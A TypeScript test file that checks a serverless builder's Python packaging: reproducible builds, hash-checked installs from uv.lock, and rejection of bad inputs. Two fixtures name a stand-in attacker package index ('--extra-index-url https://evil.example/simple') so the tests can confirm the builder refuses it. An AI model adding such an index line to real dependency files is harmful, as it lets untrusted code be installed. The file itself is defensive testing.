// Real builds of Python functions in real sandboxes from the real registries, and the built layers run by the real bootstrap.
import { expect, test } from "vitest";
import type { BuilderEvent } from "@fnctl/control-plane/contract/runtime-protocol";
import { build, packSource } from "./builder-client.ts";
import { binary, run, suite } from "./builder-harness.ts";
import { call } from "./client.ts";
import { projectLock } from "./uv-locks.ts";

const lockedProject = {
  "pyproject.toml": '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.12"\ndependencies = ["itsdangerous==2.2.0"]\n',
  "uv.lock": projectLock,
};

suite("builder: Python", () => {
  test("FastAPI and NumPy from requirements.txt: runs, and the same bytes twice", async () => {
    const archive = await packSource({
      "requirements.txt": "fastapi==0.115.14\nnumpy==2.3.5\n",
      "main.py":
        'from fastapi import FastAPI\nimport numpy as np\nfrom lib.extra import name\napp = FastAPI()\n@app.get("/")\ndef root():\n    return {"sum": int(np.arange(10).sum()), "name": name}\n',
      "lib/extra.py": 'name = "extra"\n',
    });
    const [first, second] = [
      await build(binary, archive, { runtime: "python3.13" }),
      await build(binary, archive, { runtime: "python3.13" }),
    ];
    expect(first.layer?.equals(second.layer as Buffer)).toBe(true);
    await run(first, "python3.13", async (sandbox) =>
      expect(JSON.parse((await call(sandbox.socket, "/")).text)).toEqual({ sum: 45, name: "extra" }),
    );
  }, 180_000);

  test("pyproject.toml and uv.lock are exported with hashes and installed", async () => {
    const archive = await packSource({
      ...lockedProject,
      "app.py":
        'from itsdangerous import Signer\ndef handler(event, context):\n    return Signer("key").sign("text").decode().split(".")[0]\n',
    });
    await run(await build(binary, archive, { runtime: "python3.13" }), "python3.13", async (sandbox) =>
      expect((await call(sandbox.socket, "/")).text).toBe("text"),
    );
  }, 60_000);

  test("a hash in uv.lock that is not the wheel's stops the build", async () => {
    const bent = { ...lockedProject, "uv.lock": lockedProject["uv.lock"].replace("sha256:c6242fc4", "sha256:00000000"), "app.py": "" };
    const built = await build(binary, await packSource(bent), { runtime: "python3.13" });
    expect(built.last).toMatchObject({ type: "failed", message: expect.stringMatching(/hash/i) });
  }, 60_000);

  test("dependencies in pyproject.toml without a lock are refused with what to do", async () => {
    const built = await build(binary, await packSource({ "app.py": "", "pyproject.toml": lockedProject["pyproject.toml"] }), {
      runtime: "python3.13",
    });
    expect(built.last).toMatchObject({
      type: "failed",
      message: expect.stringContaining("no uv.lock"),
      hint: expect.stringContaining("uv lock"),
    });
  }, 60_000);

  const failures: Array<[what: string, files: Record<string, string>, message: RegExp]> = [
    ["a syntax error", { "main.py": "x = 1\ndef app(:\n" }, /^main\.py:2:\d+: SyntaxError/],
    [
      "a package that does not exist",
      { "main.py": "", "requirements.txt": "fnctl-no-such-package-here==1.0\n" },
      /uv pip install failed: .*fnctl-no-such-package-here/,
    ],
    [
      "an index of its own",
      { "main.py": "", "requirements.txt": "--extra-index-url https://evil.example/simple\nflask\n" },
      /names a package index/,
    ],
    [
      "an index of its own in a file that it names",
      { "main.py": "", "requirements.txt": "-r more.txt\n", "more.txt": "\n--extra-index-url https://evil.example/simple\n" },
      /^more\.txt:2: --extra-index-url names a package index/,
    ],
    ["a wrong hash", { "main.py": "", "requirements.txt": `click==8.5.1 --hash=sha256:${"0".repeat(64)}\n` }, /[Hh]ash/],
    ["no entry", { "readme.md": "" }, /No file with a handler/],
  ];
  test.each(failures)(
    "%s is a failed event",
    async (_what, files, message) => {
      const built = await build(binary, await packSource(files), { runtime: "python3.13" });
      expect(built.last?.type).toBe("failed");
      expect((built.last as Extract<BuilderEvent, { type: "failed" }>).message).toMatch(message);
    },
    60_000,
  );
});
